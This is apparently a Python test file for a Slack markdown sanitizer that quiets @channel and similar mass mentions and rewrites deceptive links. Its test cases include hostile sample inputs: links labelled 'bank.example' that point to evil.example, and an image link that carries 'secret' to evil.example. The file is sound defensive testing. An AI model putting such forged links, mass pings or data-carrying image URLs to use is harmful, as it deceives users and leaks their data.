"""Markdown for Slack's own block, made harmless first."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from adapters.slack.markdown import harmless, names_another_site, quieted

J = "\u2060"


@pytest.mark.parametrize(
    ("text", "becomes"),
    [
        ("**Bold** and [a page](https://example.com/a).", "**Bold** and [a page](https://example.com/a)."),
        ("[https://a.example/x](https://a.example/x)", "[https://a.example/x](https://a.example/x)"),
        ("[www.a.example](https://a.example)", "[www.a.example](https://a.example)"),
        ("[me@a.example](mailto:me@a.example)", "[me@a.example](mailto:me@a.example)"),
        ("<!channel> and <@U123>", f"<{J}!channel> and <{J}@U123>"),
        ("`<!subteam^S1|x>`", f"`<{J}!subteam^S1|x>`"),
        ("@channel @Here @everyone @ann", f"@{J}channel @{J}Here @{J}everyone @ann"),
        ("<https://evil.example|bank.example>", f"<{J}https://evil.example|bank.example>"),
        ("<!DOCTYPE html> <b>", "<!DOCTYPE html> <b>"),
        ("[bank.example](https://evil.example)", "bank.example `https://evil.example`"),
        (
            "[bank.example][1]\n\n[1]: https://evil.example",
            "bank.example `https://evil.example`\n\n[1]: https://evil.example",
        ),
        ("![a cat](https://evil.example/?q=secret)", "a cat `https://evil.example/?q=secret`"),
        ("| a |\n|---|\n| [b.example](https://e.example) |", "| a |\n|---|\n| b.example `https://e.example` |"),
    ],
)
def test_markdown_that_slack_reads_pings_nobody_and_forges_no_link(text, becomes):
    assert harmless(text) == becomes


@pytest.mark.parametrize("text", ["> [a\n> bank.example](https://evil.example)", "x" * 20_001])
def test_what_cannot_be_made_harmless_is_shown_letter_by_letter(text):
    assert harmless(text) is None


@pytest.mark.parametrize(
    ("text", "url", "forged"),
    [
        ("here", "https://a.example", False),
        ("a.example", "https://a.example/page", False),
        ("https://a.example", "https://b.example", True),
        ("a.example", "https://a.example.evil.example", True),
        ("sub.a.example", "https://a.example", True),
        ("README.md", "https://a.example", True),
        ("see b.example", "https://a.example", True),
        ("a.example", "https://a.example@evil.example/", True),
        ("a.example", "https://[broken", True),
        ("", "https://a.example", False),
        ("a" * 100_000, "https://a.example", True),  # nobody looks through so much
    ],
)
def test_a_link_is_forged_when_its_text_names_another_site(text, url, forged):
    assert names_another_site(text, url) is forged


PIECES = st.sampled_from(
    [
        "[",
        "]",
        "(",
        ")",
        "<",
        ">",
        "|",
        "!",
        "https://a.example",
        "b.example",
        "\n",
        "> ",
        "`",
        "\\",
        "@channel",
        "x ",
        "*",
    ]
)


@settings(max_examples=400, deadline=None)
@given(text=st.lists(PIECES, max_size=20).map("".join))
def test_no_combination_of_marks_gets_past(text):
    made = harmless(text)
    if made is not None:
        assert "[b.example](https://a.example)" not in made
        assert "<https://a.example|" not in made
        assert harmless(made) == made
    assert not re.search(r"@channel\b", quieted(text))
